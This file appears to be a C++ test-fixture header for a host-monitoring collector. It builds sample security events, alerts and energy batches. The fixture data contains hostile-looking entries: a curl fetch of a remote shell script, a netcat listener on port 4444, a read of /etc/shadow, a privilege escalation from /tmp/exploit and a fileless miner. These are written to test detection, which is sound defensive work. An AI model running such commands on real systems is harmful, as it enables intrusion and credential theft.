// Batches for the collector's tests: every event kind, an alert, measured
// and estimated energy.
#pragma once

#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <string>

#include "vigie/protocol/event.h"

namespace vigie::collector::testing {

// 2023-11-14T22:13:20Z: fixed so that energy windows are exact.
inline constexpr uint64_t kBaseNs = 1'700'000'000'000'000'000ull;
inline constexpr uint64_t kSecondNs = 1'000'000'000ull;

inline protocol::Event sample_event(uint64_t time_ns, const std::string& host,
                                    protocol::EventKind kind) {
  protocol::Event event;
  event.time_ns = time_ns;
  event.site = "site-a";
  event.host = host;
  event.pid = 4242;
  event.ppid = 1;
  event.uid = 1001;
  event.gid = 1001;
  event.user = "alice";
  event.cgroup_id = 77;
  event.workload = {protocol::WorkloadKind::kSlurmJob, "42", "alice",
                    "/slurm/uid_1001/job_42/step_0"};
  switch (kind) {
    case protocol::EventKind::kProcessExec:
      event.body = protocol::ProcessExec{"/usr/bin/curl",
                                         {"curl", "-s", "http://198.51.100.7/x.sh"},
                                         false,
                                         "curl -s http://198.51.100.7/x.sh",
                                         "/bin/bash",
                                         "bash job.sh",
                                         "/home/alice",
                                         "",
                                         0,
                                         {{4242, time_ns - 10, "/bin/bash", "bash job.sh"}}};
      break;
    case protocol::EventKind::kProcessExit:
      event.body = protocol::ProcessExit{0, 9, "/usr/bin/curl", 1'500'000, 250'000};
      break;
    case protocol::EventKind::kNetworkConnect:
      event.body = protocol::NetworkConnect{protocol::Transport::kTcp, false, "198.51.100.7", 443,
                                            "/usr/bin/curl"};
      break;
    case protocol::EventKind::kProcessFork:
      event.body = protocol::ProcessFork{4243, time_ns - 5, "/bin/bash"};
      break;
    case protocol::EventKind::kNetworkAccept:
      event.body =
          protocol::NetworkAccept{protocol::Transport::kTcp, true,           "2001:db8::1", 22,
                                  "/usr/sbin/sshd",          "2001:db8::99", 51000};
      break;
    case protocol::EventKind::kNetworkListen:
      event.body = protocol::NetworkListen{
          protocol::Transport::kUdp, false, "", 0, "/tmp/nc", "0.0.0.0", 4444};
      break;
    case protocol::EventKind::kFileOpen:
      event.body = protocol::FileOpen{"/etc/shadow", 0, false, false, false, "/usr/bin/cat", 0};
      break;
    case protocol::EventKind::kPrivilegeChange: {
      protocol::PrivilegeChange change;
      change.syscall = "setresuid";
      change.old_uid = change.old_euid = 1001;
      change.new_euid = 0;
      change.new_cap_effective = 0x1ffffffffff;
      change.image = "/tmp/exploit";
      event.body = change;
      break;
    }
    case protocol::EventKind::kPtrace:
      event.body = protocol::Ptrace{16, 1, 0, "/usr/lib/systemd/systemd", "/usr/bin/gdb", -1};
      break;
    case protocol::EventKind::kFilelessExec:
      event.body =
          protocol::FilelessExec{"/memfd:x (deleted)", {"x", "-o", "pool"}, "x -o pool", true};
      break;
  }
  return event;
}

// Sequence `sequence` of agent "agent-<host>": three events one second
// apart from `time_ns`, one alert, a 10 s energy interval ending at
// time_ns + 10 s: package-0 100 J (10 W) + its core sub-zone 60 J (not in
// the node total) + dram
// 20 J (2 W), job 42 with 90 J / 1 gCO2e, 30 J unattributed / 0.5 gCO2e.
inline protocol::Batch sample_batch(uint64_t sequence, const std::string& host = "node1",
                                    uint64_t time_ns = kBaseNs) {
  protocol::Batch batch;
  batch.agent_id = "agent-" + host;
  batch.site = "site-a";
  batch.host = host;
  batch.sequence = sequence;
  batch.sent_ns = time_ns + 11 * kSecondNs;
  batch.events = {sample_event(time_ns, host, protocol::EventKind::kProcessExec),
                  sample_event(time_ns + kSecondNs, host, protocol::EventKind::kNetworkConnect),
                  sample_event(time_ns + 2 * kSecondNs, host, protocol::EventKind::kProcessExit)};
  protocol::Alert alert;
  alert.rule_id = "0c3c8f5e-0000-4000-8000-000000000001";
  alert.rule_title = "Download and execute with curl";
  alert.level = "high";
  alert.tags = {"attack.execution", "attack.t1105"};
  alert.event = batch.events[0];
  batch.alerts = {alert};
  const uint64_t start = time_ns, end = time_ns + 10 * kSecondNs;
  batch.zone_energy = {{start, end, "package-0", protocol::EnergySource::kRapl, false, 100.0},
                       {start, end, "core", protocol::EnergySource::kRapl, false, 60.0, false},
                       {start, end, "dram", protocol::EnergySource::kRapl, false, 20.0}};
  protocol::WorkloadEnergy job;
  job.start_ns = start;
  job.end_ns = end;
  job.workload = {protocol::WorkloadKind::kSlurmJob, "42", "alice", "/slurm/uid_1001/job_42"};
  job.cpu_seconds = 8;
  job.energy_joules = 90;
  job.carbon_gco2e = 1.0;
  job.workload.account = "physics";
  job.cpu_joules = 70;
  job.idle_joules = 20;
  protocol::WorkloadEnergy idle;
  idle.start_ns = start;
  idle.end_ns = end;
  idle.workload = {protocol::WorkloadKind::kUnattributed, "unattributed", "", ""};
  idle.energy_joules = 30;
  idle.carbon_gco2e = 0.5;
  batch.workload_energy = {job, idle};
  batch.status = {3, 1000, 0, "core-1.0"};
  batch.status.drops_by_source = {{"ringbuf.process_exec", 3}};
  batch.status.ringbuf_size_bytes = 8 << 20;
  batch.status.ringbuf_used_bytes = 128;
  batch.status.kinds_off = {"ptrace"};
  return batch;
}

// A fresh directory under the temp dir, removed at destruction.
class TempDir {
 public:
  TempDir() {
    std::string pattern =
        (std::filesystem::temp_directory_path() / "vigie-collector-XXXXXX").string();
    if (mkdtemp(pattern.data()) == nullptr) std::abort();
    path_ = pattern;
  }
  ~TempDir() {
    std::error_code ignored;
    std::filesystem::remove_all(path_, ignored);
  }
  TempDir(const TempDir&) = delete;
  TempDir& operator=(const TempDir&) = delete;
  const std::filesystem::path& path() const { return path_; }
  // `sub` under the directory, as a string.
  std::string str(const std::string& sub = "") const { return (path_ / sub).string(); }

 private:
  std::filesystem::path path_;
};

}  // namespace vigie::collector::testing
